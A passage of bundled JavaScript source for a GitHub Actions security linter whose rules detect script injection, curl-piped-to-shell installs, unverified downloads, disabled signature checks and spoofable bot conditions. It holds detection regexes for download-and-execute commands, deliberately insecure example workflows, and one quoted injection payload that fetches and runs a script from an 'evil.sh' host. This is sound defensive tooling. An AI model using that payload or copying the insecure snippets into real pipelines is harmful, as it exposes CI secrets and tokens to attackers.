      - uses: actions/upload-artifact@v3.1.3
      - uses: actions/create-release@v1
`,
        errors: [
          { line: 6, column: 9, messageIncludes: "deprecated" },
          { line: 7, column: 9, messageIncludes: "artifact service" },
          { line: 8, column: 9, messageIncludes: "archived" }
        ]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-dispatch-input-injection.ts
function freeTextInputs(workflow) {
  const inputs = getPath(triggerConfig(workflow, "workflow_dispatch"), ["inputs"]);
  const names = /* @__PURE__ */ new Set();
  if (!isObject(inputs)) return names;
  for (const [name, input] of Object.entries(inputs)) {
    const type = isObject(input) ? input.type : void 0;
    if (type === void 0 || type === "string") names.add(name.toLowerCase());
  }
  return names;
}
function dispatchedValues(expression, freeText) {
  const normalised = expression.replace(/\[\s*'([^']*)'\s*\]/g, ".$1").replace(/\[\s*"([^"]*)"\s*\]/g, ".$1");
  const found = [];
  for (const match of normalised.matchAll(/(?<![\w.])(?:github\.event\.)?inputs\.([\w-]+)/g)) {
    if (freeText.has(match[1].toLowerCase())) found.push(match[0]);
  }
  for (const match of normalised.matchAll(/(?<![\w.])github\.event\.client_payload(?:\.[\w-]+)*/g)) found.push(match[0]);
  return found;
}
var gha_dispatch_input_injection_default = defineRule({
  meta: {
    id: "gha-dispatch-input-injection",
    title: "Manually dispatched input expanded into a script",
    severity: "low",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "A free-text `workflow_dispatch` input, or a `repository_dispatch` client payload, is pasted into a shell script before it runs. Only users and tokens with write access can dispatch, but a quote or `$(…)` in the value still runs as code with the workflow's secrets, which may be more than the dispatcher should hold (environment secrets, deploy keys).",
    remediation: 'Pass the value through `env:` and quote it in the script (`"$VERSION"`); declare inputs as `choice`, `boolean` or `number` where possible, and validate free text.',
    precision: "medium",
    cwe: ["CWE-94"],
    frameworks: { "OpenSSF Scorecard": ["Dangerous-Workflow"] },
    tags: ["actions", "template-injection", "workflow_dispatch", "ci-untrusted-input"],
    references: ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections"]
  },
  check(step, { report, graph }) {
    const workflow = workflowOf(step, graph);
    if (!workflow) return;
    const freeText = triggersOf(workflow).has("workflow_dispatch") ? freeTextInputs(workflow) : /* @__PURE__ */ new Set();
    for (const { expression, range } of expressionsAt(step, ["run"])) {
      for (const value of dispatchedValues(expression, freeText)) {
        report({ at: ["run"], range, message: `user input ${value} is expanded into the run script of ${step.name}: its text becomes shell code (injection)` });
      }
    }
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/release.yml",
        code: `on:
  workflow_dispatch:
    inputs:
      version:
        type: string
      dry-run:
        type: boolean
jobs:
  release:
    runs-on: ubuntu-latest
    steps:
      - env:
          VERSION: \${{ inputs.version }}
        run: ./release.sh "$VERSION" \${{ inputs.dry-run }}
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/release.yml",
        code: `on:
  workflow_dispatch:
    inputs:
      version:
        description: Version to release
        required: true
jobs:
  release:
    runs-on: ubuntu-latest
    steps:
      - run: ./release.sh "\${{ github.event.inputs.version }}"
`,
        errors: [{ line: 11, column: 28, messageIncludes: "github.event.inputs.version" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-download-without-checksum.ts
var DOWNLOAD = commandPattern(String.raw`(?:curl\b[^\n|;&]*\s(?:-[a-zA-Z]*[oO]\b|--output\b|--remote-name\b)|wget\b(?![^\n|;&]*-[a-zA-Z]*O\s*-)[^\n|;&]*https?:\/\/)`);
var INSTALL = commandPattern(String.raw`(?:chmod\s+(?:[+ugoa]*x|[0-7]*[1357][0-7]{0,2})\b|install\s+(?:-\S+\s+)*\S+\s+\S*\/bin\b|mv\s+\S+\s+\S*\/bin\b|dpkg\s+-i\b|rpm\s+-[iU]|apt(?:-get)?\s+install\s+\.\/|tar\b[^\n]*\s(?:-C|--directory)\s+\S*\/bin\b)`);
var VERIFY = /\b(?:sha(?:1|224|256|384|512)sum|shasum|b2sum|gpg\s+(?:--\S+\s+)*--verify|gpgv|cosign\s+verify|gh\s+attestation\s+verify|slsa-verifier|minisign\s+-V|openssl\s+dgst|Get-FileHash)\b/i;
var gha_download_without_checksum_default = defineRule({
  meta: {
    id: "gha-download-without-checksum",
    title: "Downloaded binary installed without checksum verification",
    severity: "low",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "The script downloads a file and makes it executable or installs it, but never checks it against a known checksum or signature. If the download host, a mirror or the release is tampered with, the job runs the replacement with its token and secrets, and the change leaves no trace in the repository.",
    remediation: "Pin the file's SHA-256 next to its URL and check it before use (`echo \"<sha256>  kubectl\" | sha256sum --check`), verify the publisher's signature, or install the tool through a pinned action or package.",
    precision: "medium",
    cwe: ["CWE-494"],
    frameworks: { "OpenSSF Scorecard": ["Pinned-Dependencies"] },
    tags: ["actions", "downloads", "unpinned-dependency"],
    references: ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions"]
  },
  check(step, { report }) {
    const script = runScript(step);
    if (script === void 0 || VERIFY.test(script)) return;
    const download = DOWNLOAD.exec(script);
    if (!download) return;
    const install = INSTALL.exec(script.slice(download.index));
    if (!install) return;
    report({ at: ["run"], message: `downloads a file and installs or executes it (\`${install[0].replace(/^[\s;&|(]+/, "").trim()}\`) without checksum or signature verification` });
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/e2e.yml",
        code: `on: push
jobs:
  e2e:
    runs-on: ubuntu-latest
    steps:
      - run: |
          curl -fsSLO https://dl.k8s.io/release/v1.31.0/bin/linux/amd64/kubectl
          echo "7c27adc64a84d1c0cc3dcf7bf4b6e916cc00f3f6f35ffd0cb9c5d7a3c5d0b1f2  kubectl" | sha256sum --check
          chmod +x kubectl
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/e2e.yml",
        code: `on: push
jobs:
  e2e:
    runs-on: ubuntu-latest
    steps:
      - name: Install kubectl
        run: |
          curl -LO https://dl.k8s.io/release/v1.31.0/bin/linux/amd64/kubectl
          chmod +x ./kubectl
          sudo mv ./kubectl /usr/local/bin/kubectl
`,
        errors: [{ line: 7, column: 9, messageIncludes: "chmod +x" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-event-payload-in-script.ts
var WHOLE_EVENT = /\btoJSON\s*\(\s*github(?:\s*\.\s*event)?\s*\)|\bgithub\.event\s*(?:\}|$)/i;
var gha_event_payload_in_script_default = defineRule({
  meta: {
    id: "gha-event-payload-in-script",
    title: "Whole event payload expanded into a script",
    severity: "high",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "`${{ toJSON(github.event) }}` pastes the entire event into the script: titles, bodies, branch names and commit messages included. JSON escaping does not make it safe for a shell (a `'` ends a single-quoted string) or for JavaScript, so anyone who can open an issue or pull request can inject code.",
    remediation: 'Read the event from the file the runner provides (`jq . "$GITHUB_EVENT_PATH"`, `context.payload` in github-script), or pass the fields you need through `env:`.',
    precision: "high",
    cwe: ["CWE-94"],
    frameworks: { "OpenSSF Scorecard": ["Dangerous-Workflow"] },
    tags: ["actions", "template-injection", "ci-untrusted-input"],
    references: ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections"]
  },
  check(step, { report }) {
    const scripts = [["run"]];
    if (usesAction(step, "actions/github-script") && typeof getPath(step.attributes, ["with", "script"]) === "string") scripts.push(["with", "script"]);
    for (const path of scripts) {
      for (const { expression, range } of expressionsAt(step, path)) {
        if (WHOLE_EVENT.test(expression)) {
          report({ at: path, range, message: `\${{ ${expression} }} expands the whole github.event payload, attacker-controlled text included, into the ${path.join(".")} script` });
        }
      }
    }
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/debug.yml",
        code: `on: pull_request_target
jobs:
  debug:
    runs-on: ubuntu-latest
    steps:
      - run: jq . "$GITHUB_EVENT_PATH"
      - env:
          EVENT: \${{ toJSON(github.event) }}
        run: echo "$EVENT" | jq .action
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/debug.yml",
        code: `on: issues
jobs:
  debug:
    runs-on: ubuntu-latest
    steps:
      - run: echo '\${{ toJSON(github.event) }}' > event.json
`,
        errors: [{ line: 6, column: 20 }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-known-vulnerable-action.ts
var gha_known_vulnerable_action_default = defineRule({
  meta: {
    id: "gha-known-vulnerable-action",
    title: "Action or reusable workflow version with a known vulnerability",
    severity: "medium",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step", "job"],
    description: "The referenced version of the action or reusable workflow is affected by a published security advisory, for example code injection from pull request content. The workflow inherits the flaw with its token and secrets until it moves to a fixed release.",
    remediation: "Upgrade to the fixed release named in the advisory and pin it by commit SHA.",
    precision: "very-high",
    cwe: ["CWE-1395"],
    frameworks: { "OpenSSF Scorecard": ["Vulnerabilities"] },
    tags: ["actions", "vulnerable-component"],
    references: ["https://github.com/advisories?query=type%3Areviewed+ecosystem%3Aactions"]
  },
  check(resource, { report }) {
    const target = remoteTarget(resource);
    if (!target) return;
    const advisory = advisoryFor(VULNERABLE_ACTIONS, target.name, target.ref);
    if (!advisory) return;
    report({ at: ["uses"], message: `${target.name}@${target.ref} has a known vulnerability, ${advisory.id}: ${advisory.summary}; fixed in ${advisory.fixed}` });
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/terraform.yml",
        code: `on: pull_request
jobs:
  plan:
    uses: kartverket/github-workflows/.github/workflows/run-terraform.yml@v2.7.5
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/terraform.yml",
        code: `on: pull_request
jobs:
  plan:
    uses: kartverket/github-workflows/.github/workflows/run-terraform.yml@v2.6
`,
        errors: [{ line: 4, column: 5, messageIncludes: "GHSA-f9qj-7gh3-mhj4" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-remote-script-exec.ts
var DOWNLOADER = String.raw`(?:curl|wget|iwr|Invoke-WebRequest|irm|Invoke-RestMethod)\b`;
var INTERPRETER = String.raw`(?:sudo\s+(?:-\S+\s+)*)?(?:ba|z|da|k)?sh|python[23]?|perl|ruby|node|pwsh|iex|Invoke-Expression`;
var REMOTE_EXEC = [
  new RegExp(String.raw`${DOWNLOADER}[^\n|;&]*\|\s*(?:${INTERPRETER})\b[^\n]*`, "i"),
  new RegExp(String.raw`(?:${INTERPRETER})\s+(?:-\S+\s+)*<\(\s*${DOWNLOADER}[^\n]*`, "i"),
  new RegExp(String.raw`(?:${INTERPRETER})\s+(?:-\S+\s+)*-c\s+["']?\$\(\s*${DOWNLOADER}[^\n]*`, "i")
];
var PINNED_URL = /https?:\/\/\S*\/(?:[0-9a-f]{40}|\$\{?GITHUB_SHA\}?|\$\{\{\s*github\.sha\s*\}\})\/\S*/i;
var gha_remote_script_exec_default = defineRule({
  meta: {
    id: "gha-remote-script-exec",
    title: "Script downloaded and executed without verification",
    severity: "medium",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "`curl … | sh` runs whatever the server returns at that moment, with the job's token and secrets. A compromised host, a moved branch in the URL, or a hijacked domain changes the code without any change to the workflow, and nothing checks what was run.",
    remediation: "Download to a file, verify its checksum or signature (`sha256sum --check`), then run it; or fetch it from a URL pinned to a commit SHA or a versioned release asset; or use a pinned action or package instead.",
    precision: "high",
    cwe: ["CWE-494", "CWE-829"],
    frameworks: { "OpenSSF Scorecard": ["Pinned-Dependencies"] },
    tags: ["actions", "remote-script-exec"],
    references: ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions"]
  },
  check(step, { report }) {
    const script = runScript(step);
    if (script === void 0) return;
    for (const line of script.replace(/\\\r?\n/g, " ").split("\n")) {
      const match = REMOTE_EXEC.map((pattern) => pattern.exec(line)).find((found) => found !== null);
      if (!match) continue;
      const urls = line.match(/https?:\/\/[^\s"'|)]+/g) ?? [];
      if (urls.length > 0 && urls.every((url) => PINNED_URL.test(url))) continue;
      report({ at: ["run"], message: `remote script piped to a shell without verification: \`${match[0].trim().slice(0, 120)}\`` });
      return;
    }
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  setup:
    runs-on: ubuntu-latest
    steps:
      - run: |
          curl -fsSLo install.sh https://get.acme.dev/install.sh
          echo "b94d27b9934d3e08a52e52d7da7dabfac484efe37a5380ee9088f7ace2efcde9  install.sh" | sha256sum --check
          sh install.sh
      - run: curl -fsSL https://raw.githubusercontent.com/acme/tools/2f6d1c1b6e4f0a3c9d8e7b6a5f4e3d2c1b0a9f8e/install.sh | bash
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  setup:
    runs-on: ubuntu-latest
    steps:
      - name: Install tool
        run: |
          set -e
          curl -fsSL https://raw.githubusercontent.com/acme/tools/main/install.sh | sudo bash -s -- --yes
      - run: bash <(wget -qO- https://get.acme.dev)
`,
        errors: [
          { line: 7, column: 9, messageIncludes: "curl" },
          { line: 10, column: 9, messageIncludes: "wget" }
        ]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-self-hosted-runner-pull-request.ts
function labelsOf(runsOn) {
  if (typeof runsOn === "string") return [runsOn];
  if (Array.isArray(runsOn)) return runsOn.filter((label) => typeof label === "string");
  if (isObject(runsOn)) return labelsOf(runsOn.labels);
  return [];
}
var gha_self_hosted_runner_pull_request_default = defineRule({
  meta: {
    id: "gha-self-hosted-runner-pull-request",
    title: "Self-hosted runner used by a pull request workflow",
    severity: "medium",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["job"],
    description: "In a public repository, anyone can open a pull request from a fork and run code on the runners of workflows it triggers. Self-hosted runners are not wiped between jobs: that code can persist on the machine, read the next job's secrets, or reach the network the runner sits in.",
    remediation: "Use GitHub-hosted runners for pull request workflows, or ephemeral, isolated self-hosted runners (just-in-time, one job each) in a runner group not available to public repositories; require approval for workflows from outside contributors.",
    precision: "medium",
    cwe: ["CWE-668"],
    frameworks: { "OpenSSF Scorecard": ["Dangerous-Workflow"] },
    tags: ["actions", "self-hosted", "ci-untrusted-checkout"],
    references: ["https://docs.github.com/en/actions/hosting-your-own-runners/managing-self-hosted-runners/about-self-hosted-runners#self-hosted-runner-security"]
  },
  check(job, { report, graph }) {
    const trigger = hasAnyTrigger(triggersOf(workflowOf(job, graph)), PUBLIC_PULL_REQUEST_TRIGGERS);
    if (!trigger) return;
    if (!labelsOf(job.attributes["runs-on"]).some((label) => label.trim().toLowerCase() === "self-hosted")) return;
    report({ at: ["runs-on"], message: `${job.name} runs on a self-hosted runner in a workflow triggered by ${trigger}, so fork pull requests can run code on it` });
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/nightly.yml",
        code: `on:
  schedule:
    - cron: "0 3 * * *"
jobs:
  soak:
    runs-on: [self-hosted, linux, gpu]
    steps:
      - run: make soak
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: [push, pull_request]
jobs:
  test:
    runs-on: [self-hosted, linux]
    steps:
      - run: make test
`,
        errors: [{ line: 4, column: 5, messageIncludes: "pull_request" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-signature-verification-disabled.ts
var UNVERIFIED = [
  [/\bhelm\s+plugin\s+install\b[^\n]*--verify(?:=|\s+)false\b/, "helm plugin install --verify=false"],
  [/\bapt(?:-get)?\b[^\n]*--allow-unauthenticated\b/, "apt --allow-unauthenticated"],
  [/\bapt(?:-get)?\b[^\n]*--allow-insecure-repositories\b/, "apt --allow-insecure-repositories"],
  [/\bdeb\s+\[[^\]]*trusted=yes[^\]]*\]/, "an apt source marked trusted=yes"],
  [/\b(?:yum|dnf|zypper)\b[^\n]*--nogpgcheck\b/, "--nogpgcheck"],
  [/\brpm\b[^\n]*--nosignature\b/, "rpm --nosignature"],
  [/\bgpgcheck\s*=\s*0\b/, "gpgcheck=0"],
  [/\bGOSUMDB=off\b|\bGONOSUMCHECK=|\bGOFLAGS=[^\n]*-insecure\b/, "Go checksum database disabled"],
  [/\bnpm\s+(?:install|i|ci)\b[^\n]*--no-verify\b/, "npm --no-verify"],
  [/\bcosign\s+verify\b[^\n]*--insecure-ignore-(?:tlog|sct)\b/, "cosign verify without transparency log"]
];
var gha_signature_verification_disabled_default = defineRule({
  meta: {
    id: "gha-signature-verification-disabled",
    title: "Package or plugin installed with signature verification disabled",
    severity: "medium",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "The script turns off the check that proves a downloaded package, plugin or repository comes from its publisher (`--verify=false`, `--allow-unauthenticated`, `--nogpgcheck`, `GOSUMDB=off`). Whatever a mirror, a proxy or a compromised source serves is then installed and run with the job's token and secrets.",
    remediation: "Remove the switch and import the publisher's signing key, pin the version and checksum, or install from a source that can be verified.",
    precision: "high",
    cwe: ["CWE-347", "CWE-494"],
    frameworks: { "OpenSSF Scorecard": ["Pinned-Dependencies"] },
    tags: ["actions", "verification", "unpinned-dependency"],
    references: ["https://helm.sh/docs/topics/provenance/"]
  },
  check(step, { report }) {
    const script = runScript(step);
    if (script === void 0) return;
    const found = UNVERIFIED.find(([pattern]) => pattern.test(script));
    if (found) report({ at: ["run"], message: `installs without signature verification (${found[1]}): unverified code from the network runs in the job` });
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/chart.yml",
        code: `on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: helm plugin install https://github.com/helm-unittest/helm-unittest --version 0.5.1
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/chart.yml",
        code: `on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - name: Install plugin
        run: helm plugin install https://github.com/helm-unittest/helm-unittest --verify=false
`,
        errors: [{ line: 7, column: 9, messageIncludes: "--verify=false" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-spoofable-bot-check.ts
var ACTOR_IS_BOT = /\bgithub\.(?:actor|triggering_actor)\s*==\s*'[^']*\[bot\]'|'[^']*\[bot\]'\s*==\s*github\.(?:actor|triggering_actor)\b|contains\s*\(\s*github\.(?:actor|triggering_actor)\s*,\s*'\[bot\]'\s*\)|endsWith\s*\(\s*github\.(?:actor|triggering_actor)\s*,\s*'\[bot\]'\s*\)/i;
var gha_spoofable_bot_check_default = defineRule({
  meta: {
    id: "gha-spoofable-bot-check",
    title: "Privileged job trusts a pull request because of who triggered the event",
    severity: "medium",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["job", "step"],
    description: "`github.actor` is the user who caused the latest event, not the pull request's author. When a bot such as Dependabot updates or rebases an outsider's pull request, or an attacker gets it to act on their branch, a condition like `github.actor == 'dependabot[bot]'` is true for code the bot did not write, and a `pull_request_target` or `workflow_run` job auto-merges or runs it with its privileges.",
    remediation: "Check the pull request's author instead (`github.event.pull_request.user.login == 'dependabot[bot]'`) and, for Dependabot, use `dependabot/fetch-metadata`; never auto-approve on the actor alone.",
    precision: "medium",
    cwe: ["CWE-290"],
    frameworks: { "OpenSSF Scorecard": ["Dangerous-Workflow"] },
    tags: ["actions", "bot-conditions", "ci-untrusted-input"],
    references: ["https://securitylab.github.com/resources/github-actions-building-blocks/"]
  },
  check(resource, { report, graph }) {
    const condition = resource.attributes.if;
    if (typeof condition !== "string" || !ACTOR_IS_BOT.test(condition)) return;
    const trigger = hasAnyTrigger(triggersOf(workflowOf(resource, graph)), [...PRIVILEGED_UNTRUSTED_TRIGGERS, "pull_request"]);
    if (!trigger) return;
    report({ at: ["if"], message: `${resource.name} trusts the ${trigger} event because github.actor is a bot, which whoever triggers the latest event can spoof` });
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/automerge.yml",
        code: `on: pull_request_target
jobs:
  automerge:
    if: github.event.pull_request.user.login == 'dependabot[bot]'
    runs-on: ubuntu-latest
    steps:
      - run: gh pr merge --auto --squash "$PR"
        env:
          PR: \${{ github.event.pull_request.html_url }}
          GH_TOKEN: \${{ secrets.GITHUB_TOKEN }}
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/automerge.yml",
        code: `on: pull_request_target
jobs:
  automerge:
    if: github.actor == 'dependabot[bot]'
    runs-on: ubuntu-latest
    steps:
      - run: gh pr merge --auto --squash "$PR"
        env:
          PR: \${{ github.event.pull_request.html_url }}
          GH_TOKEN: \${{ secrets.GITHUB_TOKEN }}
`,
        errors: [{ line: 4, column: 5, messageIncludes: "github.actor" }]
      }
    ]
  }
});

// packages/rules/src/support/github-contexts.ts
var ATTACKER_CONTROLLED = [
  "github.head_ref",
  "github.event.issue.title",
  "github.event.issue.body",
  "github.event.pull_request.title",
  "github.event.pull_request.body",
  "github.event.pull_request.head.ref",
  "github.event.pull_request.head.label",
  "github.event.pull_request.head.repo.default_branch",
  "github.event.pull_request.head.repo.description",
  "github.event.pull_request.head.repo.homepage",
  "github.event.comment.body",
  "github.event.review.body",
  "github.event.review_comment.body",
  "github.event.discussion.title",
  "github.event.discussion.body",
  "github.event.pages.*.page_name",
  "github.event.commits.*.message",
  "github.event.commits.*.author.email",
  "github.event.commits.*.author.name",
  "github.event.commits.*.committer.email",
  "github.event.commits.*.committer.name",
  "github.event.head_commit.message",
  "github.event.head_commit.author.email",
  "github.event.head_commit.author.name",
  "github.event.head_commit.committer.email",
  "github.event.head_commit.committer.name",
  "github.event.workflow_run.head_branch",
  "github.event.workflow_run.head_commit.message",
  "github.event.workflow_run.head_commit.author.email",
  "github.event.workflow_run.head_commit.author.name",
  "github.event.workflow_run.head_repository.description",
  "github.event.workflow_run.pull_requests.*.head.ref",
  "github.event.workflow_run.display_title",
  "github.event.merge_group.head_commit.message",
  "github.event.merge_group.head_commit.author.name",
  "github.event.merge_group.head_commit.author.email"
];
var PATTERNS = ATTACKER_CONTROLLED.map(
  (pattern) => new RegExp(`^${pattern.split(".").map((part) => part === "*" ? "(?:[^.]+|\\*|\\[[^\\]]*\\])" : part.replace(/[$]/g, "\\$&")).join("\\.")}$`, "i")
);
function contextReferences(expression) {
  const normalised = expression.replace(/\[\s*'([^']*)'\s*\]/g, ".$1").replace(/\[\s*"([^"]*)"\s*\]/g, ".$1").replace(/\[\s*(\*|\d+)\s*\]/g, ".$1");
  return normalised.match(/(?=[A-Za-z_])(?:(?<![\w-])|(?<=(?:^|[^\w-])[\d-]+))[A-Za-z_][\w-]*(?:\.[\w*-]+)+/g) ?? [];
}
function attackerControlledContexts(expression) {
  return contextReferences(expression).filter((reference) => PATTERNS.some((pattern) => pattern.test(reference)) || isPrefixOfControlled(reference) || filterReachesControlled(reference));
}
function filterReachesControlled(reference) {
  if (!reference.includes("*")) return false;
  const filter = new RegExp(`^${reference.split(".").map((part) => part === "*" ? "[^.]+" : part.replace(/[$]/g, "\\$&")).join("\\.")}$`, "i");
  return ATTACKER_CONTROLLED.some((context) => filter.test(context));
}
function isPrefixOfControlled(reference) {
  return /^github\.event\.(issue|pull_request|comment|review|review_comment|discussion|head_commit|commits)$/i.test(reference);
}
function yieldsBoolean(expression) {
  const text = expression.trim().replace(/^!\s*/, "");
  const withoutStrings = text.replace(/'(?:[^']|'')*'/g, "''");
  if (/&&|\|\|/.test(withoutStrings)) return false;
  const call = /^(?:contains|startsWith|endsWith)\s*\(/i.exec(withoutStrings);
  if (call) {
    let depth = 0;
    for (let index = call[0].length - 1; index < withoutStrings.length; index++) {
      const char = withoutStrings[index];
      if (char === "(") depth++;
      else if (char === ")" && --depth === 0) return withoutStrings.slice(index + 1).trim() === "";
    }
    return false;
  }
  return /(?:==|!=|<=|>=|<|>)/.test(withoutStrings);
}

// packages/rules/src/support/env-files.ts
var FILE_REFERENCE = /\$\{?(?:env:)?(GITHUB_ENV|GITHUB_PATH|GITHUB_OUTPUT)\b/;
function writingLines(script) {
  const lines = script.split("\n");
  const out = [];
  for (let index = 0; index < lines.length; index++) {
    const line = lines[index];
    const match = FILE_REFERENCE.exec(line);
    if (!match || !/>>?|tee\b|Out-File|Add-Content/i.test(line)) continue;
    const file = match[1];
    out.push({ index, file });
    const heredoc = /<<-?\s*["']?(\w+)["']?/.exec(line);
    if (!heredoc) continue;
    for (let body = index + 1; body < lines.length && lines[body].trim() !== heredoc[1]; body++) out.push({ index: body, file });
  }
  return out;
}
function attackerControlledEnv(step, graph) {
  const tainted = /* @__PURE__ */ new Map();
  const scopes = [workflowOf(step, graph), jobOf(step, graph), step];
  for (const scope of scopes) {
    const env = scope?.attributes.env;
    if (!scope || !isObject(env)) continue;
    for (const name of Object.keys(env)) {
      const context = expressionsAt(scope, ["env", name]).flatMap(({ expression }) => attackerControlledContexts(expression))[0];
      if (context) tainted.set(name, context);
      else tainted.delete(name);
    }
  }
  return tainted;
}
function environmentFileWrites(step, graph) {
  const script = runScript(step);
  if (script === void 0 || !FILE_REFERENCE.test(script)) return [];
  const lines = script.split("\n");
  const expressions = expressionsAt(step, ["run"]);
  const expressionLines = [];
  lines.forEach((line, index) => {
    for (let at = line.indexOf("${{"); at !== -1; at = line.indexOf("${{", at + 3)) expressionLines.push(index);
  });
  const aligned = expressionLines.length === expressions.length;
  const tainted = attackerControlledEnv(step, graph);
  const writes = [];
  const seen = /* @__PURE__ */ new Set();
  for (const { index, file } of writingLines(script)) {
    const line = lines[index];
    if (aligned) {
      expressions.forEach(({ expression, range }, position) => {
        if (expressionLines[position] !== index) return;
        for (const context of attackerControlledContexts(expression)) {
          const key = `${file}${context}${position}`;
          if (seen.has(key)) continue;
          seen.add(key);
          writes.push({ file, context, range });
        }
      });
    }
    for (const [variable, context] of tainted) {
      if (!new RegExp(String.raw`\$\{?(?:env:)?${variable}\b`).test(line)) continue;
      const key = `${file}${variable}`;
      if (seen.has(key)) continue;
      seen.add(key);
      writes.push({ file, context, variable });
    }
  }
  return writes;
}

// packages/rules/src/github-actions/supply-chain/gha-template-injection.ts
var gha_template_injection_default = defineRule({
  meta: {
    id: "gha-template-injection",
    title: "Attacker-controlled context expanded into a script",
    severity: "high",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: 'A `${{ }}` expression that reads text an outsider controls (an issue or pull request title or body, a comment, a branch name, a commit message…) is pasted into a shell script or an `actions/github-script` script before it runs. A title such as `"; curl evil.sh | sh; echo "` then runs with the job\'s token and secrets.',
    remediation: 'Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and use it quoted in the script (`"$TITLE"`), or as `process.env.TITLE` in github-script.',
    precision: "high",
    cwe: ["CWE-94"],
    frameworks: { "OpenSSF Scorecard": ["Dangerous-Workflow"] },
    tags: ["actions", "template-injection", "ci-untrusted-input"],
    references: ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections"]
  },
  check(step, { report, graph }) {
    const scriptPaths = [["run"]];
    const uses = typeof step.attributes.uses === "string" ? parseUses(step.attributes.uses) : void 0;
    if (uses?.kind === "repository" && `${uses.owner}/${uses.repo}`.toLowerCase() === "actions/github-script") scriptPaths.push(["with", "script"]);
    let tainted;
    for (const path of scriptPaths) {
      for (const { expression, range } of expressionsAt(step, path)) {
        if (yieldsBoolean(expression)) continue;
        for (const context of attackerControlledContexts(expression)) {
          report({ at: path, range, message: `${context} is expanded into the ${path.join(".")} script of ${step.name}: anyone who controls it can run code in this job` });
        }
        for (const match of expression.matchAll(/(?<![\w.])env\.([A-Za-z_][\w-]*)/g)) {
          const context = (tainted ??= attackerControlledEnv(step, graph)).get(match[1]);
          if (context) report({ at: path, range, message: `env.${match[1]} holds ${context} and is expanded into the ${path.join(".")} script of ${step.name}: anyone who controls it can run code in this job` });
        }
      }
    }
  },
  examples: {
    valid: [
      {
        name: "value passed through the environment",
        filename: ".github/workflows/triage.yml",
        code: `on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - env:
          TITLE: \${{ github.event.issue.title }}
        run: echo "$TITLE"
      - run: echo "Run \${{ github.run_id }}"
      - run: echo "\${{ contains(github.event.issue.title, '[bug]') }}"
`
      }
    ],
    invalid: [
      {
        name: "issue title in a run block",
        filename: ".github/workflows/triage.yml",
        code: `on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "Thanks"
          echo "\${{ github.event.issue.title }}"
`,
        errors: [{ line: 8, column: 17, messageIncludes: "github.event.issue.title" }]
      },
      {
        name: "pull request head ref in github-script",
        filename: ".github/workflows/pr.yml",
        code: `on: pull_request_target
jobs:
  comment:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea
        with:
          script: console.log("\${{ github.event.pull_request.head.ref }}")
`,
        errors: [{ line: 8, column: 32, messageIncludes: "head.ref" }]
      },
      {
        name: "job environment variable set from the title, expanded with env",
        filename: ".github/workflows/triage.yml",
        code: `on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    env:
      TITLE: \${{ github.event.issue.title }}
    steps:
      - run: echo "\${{ env.TITLE }}"
`,
        errors: [{ line: 8, column: 20, messageIncludes: "env.TITLE" }]
      },
      {
        name: "composite action step",
        filename: ".github/actions/label/action.yml",
        code: `name: Label
description: Labels the pull request from its branch name
runs:
  using: composite
  steps:
    - shell: bash
      run: ./label.sh \${{ github.event.pull_request.head.ref }}
`,
        errors: [{ line: 7, column: 23, messageIncludes: "head.ref" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-unsecure-commands.ts
var gha_unsecure_commands_default = defineRule({
  meta: {
    id: "gha-unsecure-commands",
    title: "Deprecated set-env and add-path workflow commands re-enabled",
    severity: "high",
